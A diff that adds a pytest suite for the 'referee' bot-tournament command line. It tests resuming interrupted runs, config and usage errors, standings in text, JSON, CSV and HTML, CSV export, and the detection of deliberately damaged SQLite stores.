@@ -1,0 +1,923 @@
+"""`referee tournament`, `standings`, `export` and `verify --store`: the contract with scripts.
+
+But for those at the end, matches are made up (tests/support/made_up.py), and the commands run in
+this process.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import re
+import resource
+import shlex
+import signal
+import sqlite3
+import stat
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from random import Random
+from typing import Any
+
+import pytest
+
+from referee import cli
+from referee.tournament.playing.batch import lost_row
+from referee.tournament.rows import MatchRow, Plan
+from referee.tournament.store import Store
+from tests.support.live import end_left_behind, one_line, referee, referee_process
+from tests.support.made_up import MadeUp, Result, contents, left, row, void, workers
+
+BOTS = ["minimal", "big_money", "new=smithy_big_money"]
+COLUMNS = [
+    *("match", "deal", "seed", "players", "ranks", "scores", "turns", "reason", "faults"),
+    *("disqualified", "detail", "seconds", "digest"),
+]
+
+
+class Commands:
+    """Runs commands in this process, with matches that are made up.
+
+    Attributes:
+        result: makes them.
+        most: matches of a batch.
+        played: their numbers, those of the last command.
+        out, err: what the last command said.
+    """
+
+    def __init__(self, capsys: pytest.CaptureFixture[str], folder: Path) -> None:
+        self.result: Result = row
+        self.most = 1_000
+        self.played: list[int] = []
+        self.out = self.err = ""
+        self.store = str(folder / "night.sqlite")
+        self._capsys = capsys
+
+    def workers(self, jobs: int, *, pin: bool = False) -> Any:
+        """In place of processes."""
+        executor = MadeUp(self.result, self.most)
+        self.played = executor.played
+        return workers(executor)
+
+    def run(self, *words: str, code: int = 0) -> str:
+        """Run a command; what it says on stdout."""
+        self.played = []
+        self._capsys.readouterr()
+        assert cli.main(words) == code, self._capsys.readouterr()
+        self.out, self.err = self._capsys.readouterr()
+        return self.out
+
+    def said(self) -> tuple[str, str]:
+        """What was said on stdout and stderr since this was last asked."""
+        return self._capsys.readouterr()
+
+    def tournament(self, *words: str, code: int = 0) -> str:
+        """Run a tournament with a store, without progress."""
+        return self.run("tournament", *words, "--store", self.store, "--quiet", code=code)
+
+    def refused(self, *words: str) -> str:
+        """A tournament that is wrong usage; what the one line says."""
+        assert self.tournament(*words, code=2) == ""
+        assert self.played == []
+        return one_line(self.err)
+
+    def rows(self) -> dict[str, list[dict[str, Any]]]:
+        with Store.for_reading(self.store) as store:
+            return contents(store)
+
+
+@pytest.fixture
+def commands(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> Commands:
+    made = Commands(capsys, tmp_path)
+    monkeypatch.setattr("referee.workers.worker_processes", made.workers)
+    monkeypatch.chdir(tmp_path)
+    return made
+
+
+def interrupting(after: int, number: int = signal.SIGINT) -> Callable[[Plan], MatchRow]:
+    """A signal comes in the middle of a match."""
+
+    def result(plan: Plan) -> MatchRow:
+        if plan.match == after:
+            os.kill(os.getpid(), number)
+        return row(plan)
+
+    return result
+
+
+# --- going on -------------------------------------------------------------------------------------
+
+
+def test_the_same_command_goes_on_where_it_was(commands: Commands) -> None:
+    words = [*BOTS, "--deals", "4"]  # no --seed: one was drawn, and the store knows it
+    commands.most = 2
+    commands.result = interrupting(9)
+    commands.tournament(*words, code=130)
+    before = commands.rows()["matches"]
+    assert 0 < len(before) < 24
+    commands.result = row
+    commands.tournament(*words)
+    assert len(commands.played) < 24
+    assert [match["match"] for match in commands.rows()["matches"]] == [*range(24)]
+    assert all(match in commands.rows()["matches"] for match in before)
+    commands.tournament(*words)
+    assert commands.played == []
+
+
+@pytest.mark.parametrize("options", [["--deals", "2"], ["--format", "sprt", "--elo1", "60"]])
+def test_a_bot_that_is_gone_is_missed_only_where_something_is_to_be_played(
+    commands: Commands, tmp_path: Path, options: list[str]
+) -> None:
+    bot = tmp_path / "bot.py"
+    bot.write_text("")
+    words = ["minimal", "./bot.py", *options]
+    commands.result = lambda plan: row(plan, [1, 2] if plan.players[0] == 0 else [2, 1])
+    commands.tournament(*words)
+    bot.unlink()
+    assert "minimal" in commands.tournament(*words)
+    assert commands.played == []
+    assert "./bot.py not found" in commands.refused(*words, "--extend", "--deals", "90000")
+
+
+@pytest.mark.parametrize(("number", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
+def test_an_interrupted_run_says_how_to_go_on(commands: Commands, number: int, code: int) -> None:
+    commands.result = interrupting(5, number)
+    commands.most = 1
+    bots = [f"x={sys.executable} -c 'pass'", *BOTS]
+    words = ["tournament", *bots, "--deals", "4", "--store", commands.store, "-q"]
+    assert commands.run(*words, code=code) == ""
+    told, how = commands.err.splitlines()
+    assert "matches that were being played were dropped" in told
+    assert how.startswith("referee: go on with: referee tournament ")
+    again = shlex.split(how.partition("go on with: referee ")[2])
+    assert again == words
+    assert Path(commands.store).parent.joinpath("night.sqlite-wal").exists() is False
+
+
+def test_a_run_in_memory_has_nothing_to_go_on_with(commands: Commands) -> None:
+    commands.result = interrupting(0)
+    commands.run("tournament", *BOTS, "-q", code=130)
+    assert "go on" not in one_line(commands.err)
+
+
+@pytest.mark.parametrize(
+    ("changed", "says"),
+    [
+        (["--deals", "3"], "deals: 2 in the store, 3 now"),
+        (["--seed", "6"], "seed: 5 in the store, 6 now"),
+        (["--seats", "all"], "seats: rotate in the store, all now"),
+        (["--players", "3"], "players: 2 in the store, 3 now"),
+        (["--format", "gauntlet"], "format: round-robin in the store, gauntlet now"),
+        (["--time-limit", "3"], "time_limit: 10.0 in the store, 3.0 now"),
+        (["--set", "max_turns=30"], "max_turns: 500 in the store, 30 now"),
+        (["--no-keep-alive"], "keep_alive: True in the store, False now"),
+        (["minimal"], "bots: 3 in the store, 4 now"),
+    ],
+)
+def test_another_setup_is_refused_with_what_differs(
+    commands: Commands, changed: list[str], says: str
+) -> None:
+    commands.tournament(*BOTS, "--deals", "2", "--seed", "5")
+    before = commands.rows()
+    bots = [word for word in changed if not word.startswith("-")] if len(changed) == 1 else []
+    rest = changed if not bots else []
+    line = commands.refused(*BOTS, *bots, "--deals", "2", "--seed", "5", *rest)
+    assert says in line
+    assert commands.store in line
+    assert commands.rows() == before
+
+
+def test_what_does_not_decide_the_matches_may_differ(commands: Commands, tmp_path: Path) -> None:
+    commands.most = 1
+    commands.result = interrupting(3)
+    commands.tournament(*BOTS, "--deals", "2", "--seed", "5", code=130)
+    commands.result = row
+    others = ["--jobs", "1", "--records", str(tmp_path / "r"), "--json", "--anchor", "minimal=0"]
+    commands.tournament(*BOTS, "--deals", "2", "--seed", "5", *others)
+    assert len(commands.rows()["matches"]) == 12
+
+
+def test_extend_allows_more_bots_and_more_deals(commands: Commands) -> None:
+    commands.tournament(*BOTS, "--deals", "2", "--seed", "5")
+    before = commands.rows()["matches"]
+    assert "--extend allows more" in commands.refused(*BOTS, "minimal", "--deals", "3")
+    commands.tournament(*BOTS, "minimal", "--deals", "3", "--seed", "5", "--extend")
+    assert len(commands.rows()["matches"]) == 6 * 3 * 2
+    assert commands.rows()["matches"][:12] == before
+    # The same goes on, with and without --extend; what it was before is refused.
+    for words in (["--extend"], []):
+        commands.tournament(*BOTS, "minimal", "--deals", "3", "--seed", "5", *words)
+        assert commands.played == []
+    assert "bots: 4 in the store, 3 now" in commands.refused(*BOTS, "--deals", "2", "--seed", "5")
+    assert "only adds" in commands.refused(*BOTS, "minimal", "--deals", "1", "--extend")
+    assert "cannot change this" in commands.refused(
+        *BOTS, "--deals", "3", "--seed", "6", "--extend"
+    )
+
+
+def test_a_wrong_command_leaves_no_store(commands: Commands) -> None:
+    for words, says in (
+        ([*BOTS, "--players", "5"], "has 2 to 4"),
+        (["minimal"], "1 bot: a tournament of 2 players a match needs 2 to 2,000"),
+        ([], "0 bots"),
+        (["minimal", "./none"], "./none"),
+        ([*BOTS, "--anchor", "none=5"], "give BOT=RATING with one of minimal, big_money, new"),
+        ([*BOTS, "--anchor", "new=high"], "'high' is not a number"),
+        ([*BOTS, "--bot", "none"], "--bot none: there are: minimal, big_money, new"),
+        ([*BOTS, "--deals", "2", "--matches", "9"], "--matches cannot be given beside --deals"),
+        ([*BOTS[:2], "--format", "sprt", "--elo0", "9", "--elo1", "3"], "must be less than"),
+        ([*BOTS, "--set", "colour=red"], "dominion has no option 'colour'"),
+        ([*BOTS, "--deals", "0"], "argument --deals: '0' is not an integer of 1 or more"),
+        ([*BOTS, "--config", "none.toml"], "cannot read none.toml: No such file"),
+    ):
+        assert says in commands.refused(*words)
+        assert not Path(commands.store).exists()
+
+
+def a_device(path: Path) -> None:
+    try:
+        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # as /dev/null
+    except PermissionError:
+        pytest.skip("only root makes devices")
+
+
+@pytest.mark.parametrize("bots", [BOTS, ["minimal"]])
+@pytest.mark.parametrize(
+    ("make", "says"),
+    [
+        (a_device, "it is no regular file"),
+        (os.mkfifo, "it is no regular file"),
+        (Path.mkdir, "it is no regular file"),
+        (Path.touch, "is no store of a tournament"),
+        (lambda path: path.write_text("dear diary\n" * 100), "is not a database"),
+        (lambda path: path.symlink_to("nothing"), "No such file"),
+        (lambda path: path.symlink_to("/dev/null"), "it is no regular file"),
+    ],
+)
+def test_what_is_no_store_is_left_alone(
+    commands: Commands, tmp_path: Path, make: Callable[[Path], Any], says: str, bots: list[str]
+) -> None:
+    path = tmp_path / "thing"
+    make(path)
+    before = path.lstat()
+    commands.store = "thing"
+    assert says in commands.refused(*bots, "--deals", "1")
+    after = path.lstat()
+    assert (after.st_ino, after.st_size, after.st_mtime_ns) == (
+        before.st_ino,
+        before.st_size,
+        before.st_mtime_ns,
+    )
+    assert [*tmp_path.iterdir()] == [path]
+
+
+@pytest.mark.parametrize("name", ["", ":memory:", "file:x", "a\0b"])
+def test_what_is_no_name_of_a_store(commands: Commands, tmp_path: Path, name: str) -> None:
+    commands.store = name
+    assert "is not the name of a file" in commands.refused(*BOTS, "--deals", "1")
+    assert [*tmp_path.iterdir()] == []
+
+
+def test_a_link_to_a_store_is_one(commands: Commands, tmp_path: Path) -> None:
+    commands.tournament(*BOTS, "--deals", "1", "--seed", "5")
+    (tmp_path / "link").symlink_to(commands.store)
+    commands.store = "link"
+    commands.tournament(*BOTS, "--deals", "1", "--seed", "5")
+    assert commands.played == []
+    assert {path.name for path in tmp_path.iterdir()} == {"link", "night.sqlite"}
+
+
+def test_a_link_in_the_folder_of_records_is_not_followed(
+    commands: Commands, tmp_path: Path
+) -> None:
+    commands.result = lambda plan: row(plan, record=b"{}\n")
+    diary = tmp_path / "diary"
+    diary.write_text("dear diary")
+    (tmp_path / "r").mkdir()
+    for name in ("000000.record.jsonl.zst.part", "000001.record.jsonl.zst"):
+        (tmp_path / "r" / name).symlink_to(diary)
+    commands.tournament(*BOTS, "--deals", "1", "--records", "r")
+    assert diary.read_text() == "dear diary"
+    assert not any(path.is_symlink() for path in (tmp_path / "r").iterdir())
+    assert len([*(tmp_path / "r").iterdir()]) == 6
+
+
+def test_a_full_disk_for_records_ends_it_with_one_line(commands: Commands, tmp_path: Path) -> None:
+    (tmp_path / "file").touch()
+    line = commands.refused(*BOTS, "--records", str(tmp_path / "file" / "x"))
+    assert "cannot write" in line
+
+
+# --- options --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("words", "matches"),
+    [
+        (["--deals", "2"], 12),
+        (["--matches", "13"], 14),
+        (["--players", "3", "--matches", "4"], 6),
+        (["--players", "3", "--matches", "7", "--seats", "all"], 12),
+        (["x=minimal", "--players", "4", "--matches", "4"], 4),
+        (["--format", "gauntlet", "--deals", "2"], 8),
+        (["x=minimal", "--format", "swiss", "--rounds", "2", "--deals", "3"], 24),
+        (["--game", "botwars", "--deals", "1"], 6),
+    ],
+)
+def test_how_much_is_played(commands: Commands, words: list[str], matches: int) -> None:
+    bots = ["formation", "gatherer", "random_walker"] if "botwars" in words else BOTS
+    commands.run("tournament", *bots, *words, "--json")
+    found = json.loads(commands.out)
+    assert found["matches"] == found["planned"] == matches
+
+
+def test_names_of_bots(commands: Commands) -> None:
+    commands.tournament("a=minimal", "minimal", "big_money", "minimal", "a=big_money", "--json")
+    found = json.loads(commands.out)
+    assert {bot["name"] for bot in found["bots"]} == {
+        *("a", "minimal", "big_money", "minimal #2", "a #2"),
+    }
+    assert {bot["calls_itself"] for bot in found["bots"]} == {f"Bot {n}" for n in range(5)}
+
+
+CONFIG = """
+deals = 2
+seed = 5
+time-limit = 3
+quiet = true
+set = { max_turns = 30 }
+
+[[bot]]
+command = "minimal"
+
+[[bot]]
+name = "new"
+command = "big_money"
+env = { LEVEL = "2" }
+"""
+
+
+def test_a_config_file_is_the_command_line(commands: Commands, tmp_path: Path) -> None:
+    Path("night.toml").write_text(CONFIG)
+    commands.run("tournament", "--config", "night.toml", "--store", "one.sqlite")
+    words = ["minimal", "new=big_money", "--deals", "2", "--seed", "5", "--time-limit", "3"]
+    commands.run("tournament", *words, "--set", "max_turns=30", "-q", "--store", "two.sqlite")
+    one, two = (Store.for_reading(name) for name in ("one.sqlite", "two.sqlite"))
+    with one, two:
+        first, second = one.stages[0], two.stages[0]
+        assert contents(one)["matches"] == contents(two)["matches"]
+        for name in first.__struct_fields__:
+            if name != "bots":
+                assert getattr(first, name) == getattr(second, name)
+        assert [bot.name for bot in first.bots] == [bot.name for bot in second.bots]
+        assert first.bots[1].env == (("LEVEL", "2"),)
+        assert first.bots[1].directory == str(tmp_path)
+
+
+def test_the_command_line_wins_over_the_config(commands: Commands) -> None:
+    Path("night.toml").write_text(CONFIG)
+
+    def setup(*words: str) -> Any:
+        name = f"{len(os.listdir())}.sqlite"
+        commands.run("tournament", "--config", "night.toml", *words, "--store", name)
+        with Store.for_reading(name) as store:
+            return store.stages[0]
+
+    assert setup("--deals", "3").deals == 3
+    assert setup("--seed", "6").seed == 6
+    by_matches = setup("--matches", "7")
+    assert (by_matches.deals, by_matches.matches) == (None, 7)
+    assert setup("--set", "max_turns=7").settings["max_turns"] == 7
+    assert [bot.name for bot in setup("big_money", "x=minimal").bots] == ["big_money", "x"]
+    Path("night.toml").write_text("matches = 8\n" + CONFIG.replace("deals = 2", ""))
+    assert setup("--deals", "3").matches is None
+
+
+@pytest.mark.parametrize(
+    ("text", "says"),
+    [
+        ("deals = 0", "--deals: '0' is not an integer of 1 or more"),
+        ("seed = -1", "--seed: '-1' is not an integer"),
+        ("seed = 1.5", "--seed: '1.5' is not an integer"),
+        ("format = 'knockout'", "--format: invalid choice: 'knockout'"),
+        ("time-limit = 'long'", "--time-limit: 'long' is not a number of seconds"),
+        ("deals = true", "--deals: 'true' is not an integer"),
+        ("colour = 'red'", "there is no option 'colour'"),
+        ("config = 'other.toml'", "there is no option 'config'"),
+        ("quiet = 3", "quiet is to be true or false"),
+        ("set = 'x'", "set is to be a table"),
+        ("[[bot]]\nname = 'x'", "missing required field `command`"),
+        ("x = = 3", "is no TOML"),
+        (f"deals = {'9' * 5_000}", "is no TOML"),
+        (f"x = {'[' * 5_000}", "nested too deeply"),
+        ("store = 'x'\nrecords = \"a\\u0000b\"", "records has the character U+0000"),
+        ("[[bot]]\ncommand = 'x'\ndirectory = \"\\u0000\"", "bot has the character U+0000"),
+        ("[[bot]]\ncommand = 'x'\nenv = {A = \"\\u0000\"}", "bot has the character U+0000"),
+        ("[[bot]]\ncommand = 'x'\nenv = {\"A=B\" = 'c'}", "env of x: 'A=B' cannot name a variable"),
+        ("[[bot]]\ncommand = 'x'\nenv = {\"\" = 'c'}", "env of x: '' cannot name a variable"),
+    ],
+)
+def test_a_mistake_in_a_config_is_one_line_with_its_name(
+    commands: Commands, text: str, says: str
+) -> None:
+    Path("night.toml").write_text(text)
+    line = commands.refused("--config", "night.toml", *BOTS)
+    assert "night.toml" in line
+    assert says in line
+
+
+@pytest.mark.parametrize("limit", [200_000, 140_000])
+def test_too_little_memory_is_one_line(limit: int) -> None:
+    def limited() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (limit * 1024, limit * 1024))
+
+    refused = referee_process("tournament", *BOTS, preexec_fn=limited)
+    assert (refused.returncode, refused.stdout) == (71, "")
+    assert f"262144 kB of memory, and may have {limit} (ulimit -v)" in one_line(refused.stderr)
+
+
+def test_a_folder_that_is_gone_is_one_line(tmp_path: Path) -> None:
+    folder = tmp_path / "gone"
+    folder.mkdir()
+    refused = referee_process("tournament", *BOTS, "-q", cwd=folder, preexec_fn=folder.rmdir)
+    assert (refused.returncode, refused.stdout) == (2, "")
+    assert "the folder in which this was started is gone" in one_line(refused.stderr)
+
+
+def test_progress_is_a_line_on_stderr_and_quiet_is_quiet(commands: Commands) -> None:
+    commands.run("tournament", *BOTS, "--deals", "2")
+    assert re.search(r"referee: 1?\d of 12 matches, .* matches/s", commands.err)
+    commands.run("tournament", *BOTS, "--deals", "2", "-q")
+    assert commands.err == ""
+    commands.run("tournament", "minimal", "big_money", "--format", "sprt", "--deals", "4")
+    assert re.search(r"LLR -?\d\.\d\d \(-2\.94 to 2\.94\)", commands.err)
+
+
+def test_sprt_stops_and_says_what_it_knows(commands: Commands) -> None:
+    words = ["minimal", "big_money", "--format", "sprt", "--elo1", "60", "--seed", "3", "--json"]
+    commands.result = lambda plan: row(plan, [1, 2] if plan.players[0] == 0 else [2, 1])
+    rows = []
+    for jobs in ("1", "2"):
+        found = json.loads(commands.run("tournament", *words, "-q", "--jobs", jobs))
+        assert found["sprt"]["verdict"] == "H1"
+        assert found["sprt"]["llr"] >= found["sprt"]["upper"]
+        assert found["matches"] == found["planned"] < 100
+        rows.append(found)
+    assert rows[0] == rows[1]
+    text = commands.run("tournament", *words[:-1], "-q")
+    assert "H1 is accepted: minimal is better than big_money by more than 0 Elo." in text
+    assert "The interval is a quarter wider" in text
+
+
+def test_sprt_at_its_limit_says_how_to_go_on(commands: Commands) -> None:
+    words = ["minimal", "big_money", "--format", "sprt", "--seed", "3"]
+    commands.result = lambda plan: row(plan, [1, 2])
+    text = commands.tournament(*words, "--deals", "4")
+    assert "Not decided at the limit of deals." in text
+    assert "minimal against big_money: +0 Elo" in text
+    assert "Deals in which it took 0, 0.5, 1, 1.5 and 2 points: 0, 0, 4, 0, 0." in text
+    text = commands.tournament(*words, "--deals", "5", "--extend")
+    assert "10 of 10 matches" in text
+
+
+def test_a_bot_is_left_out_of_the_ratings(commands: Commands) -> None:
+    commands.tournament(*BOTS, "--deals", "6", "--seed", "1")
+    text = commands.run("standings", commands.store, "--without", "new", "--format", "json")
+    found = json.loads(text)
+    assert (found["matches"], found["deals"]) == (12, 6)
+    assert found["bots"][2]["name"] == "new"
+    assert found["bots"][2]["rating"] is None
+    commands.run("standings", commands.store, "--without", "new", "--bot", "minimal")
+    commands.run("standings", commands.store, "--without", "x", code=2)
+    assert "--without x: there are: minimal, big_money, new" in commands.err
+
+
+# --- standings ------------------------------------------------------------------------------------
+
+
+def test_json_is_alone_on_stdout_and_has_these_keys(commands: Commands) -> None:
+    commands.result = lambda plan: void(plan) if plan.match == 3 else row(plan)
+    out = commands.tournament(*BOTS, "--deals", "2", "--json")
+    assert out.count("\n") == 1
+    found = json.loads(out)
+    assert found["matches"] == 11
+    assert found["void"] == 1
+    names = {"minimal", "big_money", "new"}
+    for bot in found["bots"]:
+        assert bot.keys() >= {
+            *("name", "rank", "rating", "rating_low", "rating_high", "matches", "wins", "draws"),
+            *("losses", "points"),
+        }
+    assert {bot["name"] for bot in found["bots"]} == names
+    assert [bot["rank"] for bot in found["bots"]] == [1, 2, 3]
+    for table, keys in (
+        ("head_to_head", {"matches", "wins", "draws", "losses", "points"}),
+        ("differences", {"elo", "low", "high", "better"}),
+    ):
+        assert found[table].keys() == names
+        for name, others in found[table].items():
+            assert others.keys() == names - {name}
+            assert all(cell.keys() == keys for cell in others.values())
+    assert commands.run("standings", commands.store, "--format", "json") == out
+    # Points are shared: a match gives one, of two bots.
+    assert sum(bot["points"] for bot in found["bots"]) == 11
+
+
+def test_standings_in_every_format(commands: Commands) -> None:
+    commands.tournament(*BOTS, "--deals", "2", "--seed", "1")
+    text = commands.run("standings", commands.store)
+    assert text == commands.tournament(*BOTS, "--deals", "2", "--seed", "1")
+    assert "12 of 12 matches in 6 deals" in text
+    assert "\x1b" not in text
+    assert max(map(len, text.splitlines())) <= 80
+    rows = list(
+        csv.DictReader(commands.run("standings", commands.store, "--format", "csv").splitlines())
+    )
+    assert {row["name"] for row in rows} == {"minimal", "big_money", "new"}
+    assert [row["rank"] for row in rows] == ["1", "2", "3"]
+    page = commands.run("standings", commands.store, "--format", "html")
+    assert page.startswith("<!DOCTYPE html>")
+    assert not re.search(r"(?:src|href)\s*=\s*[\"']?(?:https?:)?//|@import|url\(", page)
+    one = commands.run("standings", commands.store, "--bot", "new")
+    assert "new: rank" in one
+    assert "It calls itself Bot 2." in one
+
+
+def test_a_bot_that_is_out_is_named_once_and_marked_in_every_format(commands: Commands) -> None:
+    def result(plan: Plan) -> MatchRow:
+        return lost_row(plan, {2}) if plan.players == (2, 0) else row(plan)
+
+    commands.result = result
+    out = commands.tournament(*BOTS, "--deals", "1")
+    assert one_line(commands.err).startswith("referee: new is out: it kills the process that plays")
+    assert "new (out)" in out
+    assert "new is out: it kills" in out
+    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
+    assert found["out"] == ["new"]
+    assert "new is out: it kills" in commands.run("standings", commands.store, "--format", "html")
+
+
+def test_a_command_to_be_copied_is_not_wrapped(commands: Commands) -> None:
+    long = "smithy_big_money --smithies 1 --duchies 0 --estates 0 --noise 0.125"
+    commands.tournament("minimal", f"long={long}", "--deals", "9")
+    shown = commands.run("standings", commands.store, "--bot", "long")
+    again = [line for line in shown.splitlines() if "referee play" in line]
+    assert again
+    assert all(f"'{long}'" in line and "--seed" in line for line in again)
+
+
+def test_standings_of_a_store_that_was_cut_off(commands: Commands) -> None:
+    commands.most = 1
+    commands.result = interrupting(4)
+    commands.tournament(*BOTS, "--deals", "2", code=130)
+    for form in ("text", "json", "csv", "html"):
+        commands.run("standings", commands.store, "--format", form)
+    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
+    assert 0 < found["matches"] < found["planned"] == 12
+
+
+def test_standings_while_it_runs(commands: Commands) -> None:
+    seen: list[int] = []
+
+    def result(plan: Plan) -> MatchRow:
+        if plan.match >= 4:  # some are stored
+            with Store.for_reading(commands.store) as store:
+                seen.append(store.count()[0])
+        return row(plan)
+
+    commands.most = 1
+    commands.result = result
+    commands.tournament(*BOTS, "--deals", "3")
+    assert seen == sorted(seen)
+    assert 0 < seen[-1] < 18
+
+
+def test_the_anchor(commands: Commands) -> None:
+    out = commands.tournament(*BOTS, "--deals", "2", "--anchor", "new=-100.5", "--json")
+    for text in (
+        out,
+        commands.run("standings", commands.store, "--anchor", "new=-100.5", "--format", "json"),
+    ):
+        found = json.loads(text)
+        (rating,) = [bot["rating"] for bot in found["bots"] if bot["name"] == "new"]
+        assert rating == -100.5
+        assert found["anchor"] == "new"
+
+
+@pytest.mark.parametrize(
+    ("words", "says"),
+    [
+        (["standings", "none"], "cannot read none: no such file"),
+        (["standings", "diary"], "cannot use diary as a store: file is not a database"),
+        (["export", "none"], "cannot read none: no such file"),
+        (["standings", "empty"], "empty is empty: no tournament has begun in it"),
+        (["export", "empty"], "empty is empty: no tournament has begun in it"),
+        (["verify", "--store", "empty"], "empty is empty: no tournament has begun in it"),
+        (["standings", "night.sqlite", "--anchor", "x=1"], "--anchor x=1: give BOT=RATING"),
+        (["standings", "night.sqlite", "--bot", "x"], "--bot x: there are: minimal"),
+        (["standings", "night.sqlite", "--watch", "--format", "csv"], "--watch shows text"),
+        (["verify", "--store", "night.sqlite", "--log", "x"], "--store takes neither"),
+        (
+            ["verify", "--store", "night.sqlite", "--records-of", "none"],
+            "--records-of none: there is no such folder",
+        ),
+    ],
+)
+def test_wrong_usage(commands: Commands, words: list[str], says: str) -> None:
+    commands.tournament(*BOTS, "--deals", "1")
+    Path("diary").write_text("dear diary\n" * 100)
+    Path("empty").touch()
+    assert commands.run(*words, code=2) == ""
+    assert says in one_line(commands.err)
+
+
+@pytest.mark.parametrize("seed", range(8))
+def test_a_damaged_store_is_one_line(commands: Commands, seed: int) -> None:
+    commands.tournament(*BOTS, "--deals", "8", "--seed", "1")
+    whole = Path(commands.store).read_bytes()
+    chance = Random(seed)
+    Path("cut").write_bytes(whole[: chance.randrange(len(whole))])
+    changed = bytearray(whole)
+    at, length = chance.randrange(len(whole) - 400), chance.randrange(1, 400)
+    changed[at : at + length] = chance.randbytes(length)
+    Path("changed").write_bytes(changed)
+    for name in ("cut", "changed"):
+        for words in (["standings", "--format", "json"], ["export"]):
+            code = cli.main([*words, name])
+            _, err = commands.said()
+            assert code in (0, 2)
+            if code:
+                assert name in one_line(err)
+
+
+STAGES = "UPDATE about SET value = replace(value, {}, {}) WHERE key = 'stages'"
+SEAT = "UPDATE seats SET {} WHERE match = 3 AND seat = 1"
+MATCH = "UPDATE matches SET {} WHERE match = 3"
+
+
+@pytest.mark.parametrize(
+    ("edit", "says"),
+    [
+        ("UPDATE about SET value = '[]' WHERE key = 'stages'", "about, stages: there are none"),
+        ("UPDATE about SET value = x'00' WHERE key = 'stages'", "about, stages: Expected `str`"),
+        ("DELETE FROM about WHERE key = 'stages'", "about, stages: Expected"),
+        (STAGES.format("'dominion'", "'goBd'"), "about, stages: no game 'goBd'"),
+        (STAGES.format("'\"players\":2'", "'\"players\":0'"), "stages: not all that"),
+        (STAGES.format("'\"players\":2'", "'\"players\":200000000'"), "has 2 to 4"),
+        (STAGES.format("'\"deals\":2'", "'\"deals\":-2'"), "about, stages: Expected `int` >= 1"),
+        (STAGES.format("'\"max_turns\":500'", "'\"max_turns\":[]'"), "about, stages: "),
+        ("DELETE FROM bots", "table bots, bot 0: it is not that of the stages"),
+        ("UPDATE bots SET name = 'x' || char(27) WHERE bot = 1", "table bots, bot 1: "),
+        ("DELETE FROM matches WHERE match = 3", "match 3: it has no row in matches"),
+        (MATCH.format("match = -5"), "matches, match -5: match: Expected `int` >= 0"),
+        (MATCH.format("match = 1000000000000000"), "match 1000000000000000: it is not of deal"),
+        (MATCH.format("match = 13, deal = 6"), "match 13: it has no row in seats"),
+        (MATCH.format("deal = 999999999999"), "match 3: deal: Expected `int` <= 4294967295"),
+        (MATCH.format("seconds = 9e999"), "match 3: seconds: Expected `float` <= "),
+        (MATCH.format("void = 'yes'"), "match 3: void: Expected `int`, got `str`"),
+        ("DELETE FROM seats", "match 0: it has no row in seats"),
+        (
+            "DELETE FROM seats WHERE match = 3 AND seat = 1",
+            "match 3: its rows are not seats",
+        ),
+        (SEAT.format("rank = 'x'"), "seats, match 3, seat 1: rank: Expected `int`, got `str`"),
+        (SEAT.format("rank = 3"), "match 3: its rows are not seats 0 to 1"),
+        (SEAT.format("bot = 99"), "match 3: its rows are not seats 0 to 1"),
+        (SEAT.format("bot = (SELECT bot FROM seats WHERE match = 3)"), "match 3: its rows are not"),
+        (SEAT.format("bot = (SELECT 3 - sum(bot) FROM seats WHERE match = 3)"), "has other bots"),
+        (SEAT.format("score = 1 << 60"), "match 3, seat 1: score: Expected `int` <= "),
+        (
+            SEAT.format("faults = '{\"x\":[]}'"),
+            "seat 1: faults: Expected `int`, got `array`",
+        ),
+        (SEAT.format("faults = x'7b7d'"), "match 3, seat 1: faults: Expected `str`, got `bytes`"),
+        (
+            SEAT.format("reply_histogram = '{\"99999\":5}'"),
+            "reply_histogram: Expected `int` <=",
+        ),
+        (SEAT.format('statistics = \'{"bought":{"gold":[1]}}\''), "3, seat 1: statistics: "),
+        ("DROP TABLE seats", "its tables are not those of a store"),
+        (
+            "CREATE TRIGGER t AFTER INSERT ON seats BEGIN DELETE FROM bots; END",
+            "its tables are not",
+        ),
+    ],
+)
+def test_what_cannot_be_in_a_store_is_named(commands: Commands, edit: str, says: str) -> None:
+    """Before anything of it is shown; a run adds nothing to it either."""
+    words = [*BOTS, "--deals", "2", "--seed", "1"]
+    commands.tournament(*words)
+    with sqlite3.connect(commands.store) as connection:
+        connection.execute(edit)
+    connection.close()
+    before = Path(commands.store).read_bytes()
+    kept_by_the_game = "statistics" in edit
+    for command in (["standings"], ["standings", "--bot", "minimal"], ["export"], ["verify", "-q"]):
+        if kept_by_the_game and command[0] != "standings":
+            continue
+        store = ["--store"] * (command[0] == "verify") + [commands.store]
+        assert commands.run(*command, *store, code=2) == ""
+        line = one_line(commands.err)
+        assert f"{commands.store} is damaged: table " in line or "its tables" in line
+        assert says in line
+    assert says in commands.refused(*words)
+    assert kept_by_the_game or Path(commands.store).read_bytes() == before
+
+
+# --- export ---------------------------------------------------------------------------------------
+
+
+def exported(plan: Plan) -> MatchRow:
+    """With all that an export shows; match 2 is void."""
+    if plan.match == 2:
+        return void(plan)
+    out = [None, left("timeout")] if plan.match == 1 else [None, None]
+    return row(plan, faults=[{}, {"bad-buy": 2, "no-json": 1}], left=out)
+
+
+def test_export_as_csv(commands: Commands) -> None:
+    commands.result = exported
+    # What a shell would take for more or less than one word is quoted.
+    names = {"plain": "plain"}
+    names |= {name: shlex.quote(name) for name in ("two words", "it's", "a\\b")}
+    tables = "".join(f"[[bot]]\nname = {json.dumps(name)}\ncommand = 'minimal'\n" for name in names)
+    Path("night.toml").write_text(tables)
+    commands.tournament("--config", "night.toml", "--deals", "1")
+    lines = commands.run("export", commands.store).splitlines()
+    assert lines[0].split(",") == COLUMNS
+    rows = list(csv.DictReader(lines))
+    assert [int(row["match"]) for row in rows] == [0, 1, *range(3, 12)]
+    assert rows[0]["disqualified"] == "null null"
+    assert rows[1]["disqualified"] == "null timeout"
+    assert {row["faults"] for row in rows} == {"0 3"}
+    with Store.for_reading(commands.store) as store:
+        known = store.names
+        for found, line in zip(rows, (m for m in store.matches() if not m.void), strict=True):
+            assert shlex.split(found["players"]) == [known[bot] for bot in line.players]
